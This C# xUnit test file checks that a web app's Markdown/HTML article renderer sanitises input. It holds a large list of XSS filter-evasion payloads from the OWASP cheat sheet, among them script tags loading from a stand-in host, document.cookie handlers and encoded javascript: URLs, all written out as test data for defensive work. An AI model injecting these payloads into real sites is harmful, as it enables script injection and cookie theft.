using AngleSharp.Html.Parser;
using LifeTimeCircle.Infrastructure;
using LifeTimeCircle.Infrastructure.Cms;
using Microsoft.Extensions.Configuration;
using Microsoft.Extensions.Hosting;

namespace LifeTimeCircle.Tests.Redaktion;

/// <summary>
/// The one renderer of article text (Markdig + HtmlSanitizer allow-list, ADR 0017), fed the OWASP XSS filter-evasion
/// cheat sheet: whatever comes in, no script, no event handler, no javascript:/vbscript:/data: URL, no style, frame,
/// object, form or image survives — neither as Markdown nor as raw HTML inside it.
/// </summary>
public sealed class ArticleHtmlTests
{
    private static readonly ArticleHtml Renderer = new(LtcEnvironment.Load(
        new ConfigurationBuilder().AddInMemoryCollection(new Dictionary<string, string?>
        {
            ["LTC_PUBLIC_URL"] = "https://lifetimecircle.example",
            ["LTC_DATA_DIR"] = Path.Combine(Path.GetTempPath(), "ltc-tests", "article-html"),
        }).Build(),
        new TestEnvironment()), new ImageLinks());

    /// <summary>The one route the renderer asks for (the article image page), as the app's routing builds it.</summary>
    private sealed class ImageLinks : Microsoft.AspNetCore.Routing.LinkGenerator
    {
        public override string? GetPathByAddress<TAddress>(Microsoft.AspNetCore.Http.HttpContext httpContext, TAddress address, Microsoft.AspNetCore.Routing.RouteValueDictionary values,
            Microsoft.AspNetCore.Routing.RouteValueDictionary? ambientValues = null, Microsoft.AspNetCore.Http.PathString? pathBase = null,
            Microsoft.AspNetCore.Http.FragmentString fragment = default, Microsoft.AspNetCore.Routing.LinkOptions? options = null) => Path(values);

        public override string? GetPathByAddress<TAddress>(TAddress address, Microsoft.AspNetCore.Routing.RouteValueDictionary values, Microsoft.AspNetCore.Http.PathString pathBase = default,
            Microsoft.AspNetCore.Http.FragmentString fragment = default, Microsoft.AspNetCore.Routing.LinkOptions? options = null) => Path(values);

        public override string? GetUriByAddress<TAddress>(Microsoft.AspNetCore.Http.HttpContext httpContext, TAddress address, Microsoft.AspNetCore.Routing.RouteValueDictionary values,
            Microsoft.AspNetCore.Routing.RouteValueDictionary? ambientValues = null, string? scheme = null, Microsoft.AspNetCore.Http.HostString? host = null,
            Microsoft.AspNetCore.Http.PathString? pathBase = null, Microsoft.AspNetCore.Http.FragmentString fragment = default, Microsoft.AspNetCore.Routing.LinkOptions? options = null) => null;

        public override string? GetUriByAddress<TAddress>(TAddress address, Microsoft.AspNetCore.Routing.RouteValueDictionary values, string? scheme, Microsoft.AspNetCore.Http.HostString host,
            Microsoft.AspNetCore.Http.PathString pathBase = default, Microsoft.AspNetCore.Http.FragmentString fragment = default, Microsoft.AspNetCore.Routing.LinkOptions? options = null) => null;

        private static string Path(Microsoft.AspNetCore.Routing.RouteValueDictionary values) => $"/Artikelbilder/{values["imageId"]}/{values["width"]}";
    }

    private sealed class TestEnvironment : IHostEnvironment
    {
        public string EnvironmentName { get; set; } = "Development";
        public string ApplicationName { get; set; } = "LifeTimeCircle";
        public string ContentRootPath { get; set; } = AppContext.BaseDirectory;
        public Microsoft.Extensions.FileProviders.IFileProvider ContentRootFileProvider { get; set; } = new Microsoft.Extensions.FileProviders.NullFileProvider();
    }

    /// <summary>OWASP „XSS Filter Evasion Cheat Sheet“ cases (representative, inline), plus Markdown-specific ones.</summary>
    public static readonly TheoryData<string> Vectors = new()
    {
        "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
        "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
        "<IMG SRC=\"javascript:alert('XSS');\">",
        "<IMG SRC=javascript:alert('XSS')>",
        "<IMG SRC=JaVaScRiPt:alert('XSS')>",
        "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
        "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
        "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
        "<a onmouseover=alert(document.cookie)>xxs link</a>",
        "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
        "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
        "<IMG SRC=# onmouseover=\"alert('xxs')\">",
        "<IMG SRC= onmouseover=\"alert('xxs')\">",
        "<IMG onmouseover=\"alert('xxs')\">",
        "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
        "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
        "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
        "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>",
        "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
        "<IMG SRC=\"jav\tascript:alert('XSS');\">",
        "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
        "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
        "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
        "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
        "<SCRIPT/XSS SRC=\"https://xss.example/xss.js\"></SCRIPT>",
        "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
        "<SCRIPT/SRC=\"https://xss.example/xss.js\"></SCRIPT>",
        "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
        "<SCRIPT SRC=https://xss.example/xss.js?< B >",
        "<SCRIPT SRC=//xss.example/.j>",
        "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
        "<iframe src=https://xss.example/scriptlet.html <",
        "\\\";alert('XSS');//",
        "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
        "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
        "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
        "<IMG DYNSRC=\"javascript:alert('XSS')\">",
        "<IMG LOWSRC=\"javascript:alert('XSS')\">",
        "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
        "<svg/onload=alert('XSS')>",
        "<BODY ONLOAD=alert('XSS')>",
        "<BGSOUND SRC=\"javascript:alert('XSS');\">",
        "<BR SIZE=\"&{alert('XSS')}\">",
        "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
        "<STYLE>@import'https://xss.example/xss.css';</STYLE>",
        "<META HTTP-EQUIV=\"Link\" Content=\"<https://xss.example/xss.css>; REL=stylesheet\">",
        "<STYLE>BODY{-moz-binding:url(\"https://xss.example/xssmoz.xml#xss\")}</STYLE>",
        "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
        "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
        "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
        "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
        "<IFRAME SRC=# onmouseover=\"alert(document.cookie)\"></IFRAME>",
        "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
        "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><TD BACKGROUND=\"javascript:alert('XSS')\">x</TD></TABLE>",
        "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
        "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029\">",
        "<DIV STYLE=\"width: expression(alert('XSS'));\">",
        "<BASE HREF=\"javascript:alert('XSS');//\">",
        "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"https://xss.example/scriptlet.html\"></OBJECT>",
        "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
        "<SCRIPT a=\">\" SRC=\"https://xss.example/xss.js\"></SCRIPT>",
        "<SCRIPT \"a='>'\" SRC=\"https://xss.example/xss.js\"></SCRIPT>",
        "<A HREF=\"javascript:document.location='https://xss.example/'\">XSS</A>",
        "<A HREF=\"http://0x42.0x0000066.0x7.0x93/\" onclick=\"alert(1)\">XSS</A>",
        "<a href=\"jav&#x61;script:alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox('XSS')\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<form action=\"javascript:alert(1)\"><button>x</button></form>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<details open ontoggle=alert(1)>",
        "<video><source onerror=\"alert(1)\"></video>",
        "<p style=\"color:red\" onclick=\"alert(1)\">styled</p>",
        // Markdown routes to the same places.
        "[klick](javascript:alert(1))",
        "[klick](JaVaScRiPt:alert(1))",
        "[klick](  javascript:alert(1)  )",
        "[klick](&#106;avascript:alert(1))",
        "[klick](vbscript:alert(1))",
        "[klick](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "![bild](javascript:alert(1))",
        "![bild](https://xss.example/x.png \"t\" onerror=alert(1))",
        "<https://example.org/\" onmouseover=\"alert(1)>",
        "[a](https://example.org/\"onmouseover=\"alert(1))",
        "`<script>alert(1)</script>` und danach <script>alert(2)</script>",
        "# Titel <img src=x onerror=alert(1)>",
        "> Zitat <svg><script>alert(1)</script></svg>",
        "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | <a href=\"javascript:alert(1)\">x</a> |",
    };

    [Theory]
    [MemberData(nameof(Vectors))]
    public void No_script_handler_or_script_url_survives(string vector)
    {
        var html = Renderer.Render("Text davor.\n\n" + vector + "\n\nText danach.");
        AssertHarmless(html, vector);
        // Sanitising what was already sanitised changes nothing: the stored HTML is stable.
        Assert.Equal(html, Renderer.Sanitize(html));
    }

    [Fact]
    public void The_cheat_sheet_set_is_big_enough() => Assert.True(Vectors.Count >= 40, $"nur {Vectors.Count} Fälle");

    internal static void AssertHarmless(string html, string input)
    {
        var doc = new HtmlParser().ParseDocument("<body>" + html + "</body>");
        foreach (var element in doc.Body!.QuerySelectorAll("*"))
        {
            Assert.DoesNotContain(element.LocalName, new[] { "script", "style", "iframe", "frame", "frameset", "object", "embed", "img", "svg", "math", "form", "input", "button", "link", "meta", "base", "video", "source", "details", "noscript" });
            foreach (var attribute in element.Attributes)
            {
                Assert.False(attribute.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase), $"Handler {attribute.Name} in {html} (Eingabe {input})");
                Assert.NotEqual("style", attribute.Name, StringComparer.OrdinalIgnoreCase);
                var value = new string(attribute.Value.Where(c => !char.IsWhiteSpace(c) && !char.IsControl(c)).ToArray());
                foreach (var scheme in new[] { "javascript:", "vbscript:", "data:" })
                {
                    Assert.False(value.Contains(scheme, StringComparison.OrdinalIgnoreCase), $"{attribute.Name}={attribute.Value} in {html} (Eingabe {input})");
                }
            }
        }
        Assert.DoesNotContain("<script", html, StringComparison.OrdinalIgnoreCase);
    }

    [Fact]
    public void Headings_lists_emphasis_quotes_code_and_tables_survive_and_headings_move_below_the_page_title()
    {
        var html = Renderer.Render("# Titel\n\n## Unter\n\n- eins\n- zwei\n\n1. a\n\n**fett** *kursiv* ~~weg~~\n\n> Zitat\n\n`code`\n\n| a | b |\n|---|---|\n| 1 | 2 |");
        var doc = new HtmlParser().ParseDocument(html);
        Assert.Empty(doc.QuerySelectorAll("h1"));
        Assert.Equal("Titel", doc.QuerySelector("h2")!.TextContent);
        Assert.Equal("Unter", doc.QuerySelector("h3")!.TextContent);
        // No skipped level, whatever the author chose (axe heading-order on the public page).
        var skipped = new HtmlParser().ParseDocument(Renderer.Render("### Erst drei\n\nText hier.\n\n##### Dann fünf"));
        Assert.Equal(["H2", "H3"], skipped.QuerySelectorAll("h2, h3, h4").Select(h => h.TagName).ToArray());
        foreach (var selector in new[] { "ul li", "ol li", "strong", "em", "del", "blockquote", "code", "table th", "table td" })
        {
            Assert.True(doc.QuerySelector(selector) is not null, selector + " fehlt in " + html);
        }
    }

    [Fact]
    public void External_links_get_noopener_nofollow_and_own_links_do_not()
    {
        var html = Renderer.Render("[extern](https://example.org/a) [eigen](https://lifetimecircle.example/Blog) [relativ](/News) [protokoll](//example.org/x) <a href=\"https://example.org/\" rel=\"opener\" target=\"_blank\">roh</a>");
        var links = new HtmlParser().ParseDocument(html).QuerySelectorAll("a").ToDictionary(a => a.TextContent);
        Assert.Equal("noopener nofollow", links["extern"].GetAttribute("rel"));
        Assert.Equal("noopener nofollow", links["roh"].GetAttribute("rel"));
        Assert.Null(links["roh"].GetAttribute("target"));
        Assert.Null(links["eigen"].GetAttribute("rel"));
        Assert.Null(links["relativ"].GetAttribute("rel"));
        Assert.Equal("noopener nofollow", links["protokoll"].GetAttribute("rel"));
        Assert.Equal("mailto:redaktion@example.org", new HtmlParser().ParseDocument(Renderer.Render("[Mail](mailto:redaktion@example.org)")).QuerySelector("a")!.GetAttribute("href"));
    }

    [Fact]
    public void Images_are_removed_when_the_article_has_no_checked_images()
    {
        var html = Renderer.Render("![Foto](https://lifetimecircle.example/x.png) ![extern](https://example.org/x.png) <img src=\"/assets/x.png\"> ![eigen](bild:AAAAAAAAAAAAAAAAAAAAAA)");
        Assert.DoesNotContain("<img", html, StringComparison.OrdinalIgnoreCase);
    }

    private const string Own = "Own_Image-id0123456789A";
    private static readonly ArticleImageRef[] Ready = [new(Own[..22], "Werkstatt", 320, 240, 1024, 768)];

    /// <summary>
    /// ADR 0024: <c>img</c> only as <c>bild:ID</c> of one of this article's checked images, with alt text. Everything else
    /// named an image is removed: another site, javascript:, data:, the image's own URL, another article's image or one
    /// still in the check (neither is in the article's ready set), no alt text, handlers or sizes smuggled in, a bild: link.
    /// </summary>
    public static readonly TheoryData<string> ImageVectors = new()
    {
        "![Foto](https://xss.example/x.png)",
        "![Foto](javascript:alert(1))",
        "![Foto](JaVaScRiPt:alert(1))",
        "![Foto](data:image/png;base64,iVBORw0KGgo=)",
        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\" alt=\"x\">",
        "![Foto](/Artikelbilder/" + Own[..22] + "/1024)",
        "![Foto eines anderen Beitrags](bild:OtherArticleImage00000)",
        "![Foto in Prüfung](bild:PendingImage0000000000)",
        "![](bild:" + Own[..22] + ")",
        "<img src=\"bild:" + Own[..22] + "\">",
        "![Foto](bild:" + Own[..22].ToLowerInvariant() + ")",
        "![Foto](bild:" + Own[..22] + "/../x)",
        "![Foto](bild: javascript:alert(1))",
        "[Link](bild:" + Own[..22] + ")",
        "<a href=\"bild:" + Own[..22] + "\">Link</a>",
    };

    [Theory]
    [MemberData(nameof(ImageVectors))]
    public void An_image_that_is_not_a_checked_image_of_this_article_is_removed(string vector)
    {
        var html = Renderer.Render("Text davor.\n\n" + vector + "\n\nText danach.", Ready);
        Assert.DoesNotContain("<img", html, StringComparison.OrdinalIgnoreCase);
        // No attribute keeps a bild: reference (as plain text, e.g. when Markdown saw no image, it is harmless).
        var attributes = new HtmlParser().ParseDocument(html).QuerySelectorAll("*").SelectMany(e => e.Attributes).Select(a => a.Value);
        Assert.DoesNotContain(attributes, v => v.Contains("bild:", StringComparison.OrdinalIgnoreCase));
        AssertHarmless(html, vector);
    }

    [Fact]
    public void A_checked_image_of_the_article_is_written_from_our_own_values_only()
    {
        var html = Renderer.Render($"Vorher.\n\n![Die Werkstatt von innen](bild:{Own[..22]} \"Titel\")\n\n<img src=\"bild:{Own[..22]}\" alt=\"Roh\" onerror=\"alert(1)\" width=\"9999\" style=\"x\" loading=\"eager\">", Ready);
        var images = new HtmlParser().ParseDocument(html).QuerySelectorAll("img").ToList();
        Assert.Equal(2, images.Count);
        var img = images[0];
        Assert.Equal(
            [("alt", "Die Werkstatt von innen"), ("decoding", "async"), ("height", "768"), ("loading", "lazy"), ("sizes", "(max-width: 1024px) 100vw, 1024px"),
             ("src", $"/Artikelbilder/{Own[..22]}/1024"), ("srcset", $"/Artikelbilder/{Own[..22]}/320 320w, /Artikelbilder/{Own[..22]}/1024 1024w"), ("width", "1024")],
            img.Attributes.Select(a => (a.Name, a.Value)).OrderBy(a => a.Name, StringComparer.Ordinal).ToArray());
        Assert.Equal("Roh", images[1].GetAttribute("alt"));
        Assert.Null(images[1].GetAttribute("onerror"));
        Assert.Null(images[1].GetAttribute("style"));
        Assert.Equal(("1024", "lazy"), (images[1].GetAttribute("width"), images[1].GetAttribute("loading")));
    }

    [Fact]
    public void A_small_image_gets_no_srcset()
    {
        var html = Renderer.Render($"![Klein](bild:{Own[..22]})", [new ArticleImageRef(Own[..22], "Klein", 200, 100, 200, 100)]);
        var img = new HtmlParser().ParseDocument(html).QuerySelector("img")!;
        Assert.Equal(("200", "100", null), (img.GetAttribute("width"), img.GetAttribute("height"), img.GetAttribute("srcset")));
    }
}

/// <summary>One render path (ADR 0017): article HTML reaches a page only through Pages/Shared/_ArticleBody.cshtml.</summary>
public sealed class OneArticleRenderPathTests
{
    /// <summary>Raw HTML elsewhere is only the QR codes' SVG, which the app draws itself.</summary>
    private static readonly HashSet<string> RawAllowed =
    [
        "Pages/Shared/_ArticleBody.cshtml", "Pages/Fahrzeuge/Uebergabe/Blatt.cshtml", "Pages/Fahrzeuge/Teilen/Index.cshtml", "Pages/Konto/ZweiFaktor.cshtml",
    ];

    [Fact]
    public void Only_the_article_body_partial_writes_article_html_unencoded()
    {
        var root = LifeTimeCircle.Tests.Ops.NginxFixture.RepoPath("LifeTimeCircle");
        var views = Directory.EnumerateFiles(Path.Combine(root, "Pages"), "*.cshtml", SearchOption.AllDirectories)
            .Select(f => (Path: Path.GetRelativePath(root, f).Replace('\\', '/'), Text: File.ReadAllText(f))).ToList();
        Assert.True(views.Count > 50);
        var raw = views.Where(v => v.Text.Contains("Html.Raw(", StringComparison.Ordinal) || v.Text.Contains("HtmlString(", StringComparison.Ordinal)).Select(v => v.Path).ToList();
        Assert.True(raw.All(RawAllowed.Contains), "Html.Raw außerhalb der erlaubten Stellen: " + string.Join(", ", raw.Except(RawAllowed)));
        Assert.Contains("Pages/Shared/_ArticleBody.cshtml", raw);
        // Every page that shows an article's HTML does so through the partial.
        var users = views.Where(v => v.Text.Contains("_ArticleBody", StringComparison.Ordinal)).Select(v => v.Path).Order().ToList();
        Assert.Equal(["Pages/Redaktion/_ArticleDesk.cshtml", "Pages/Shared/_Article.cshtml"], users);
    }
}
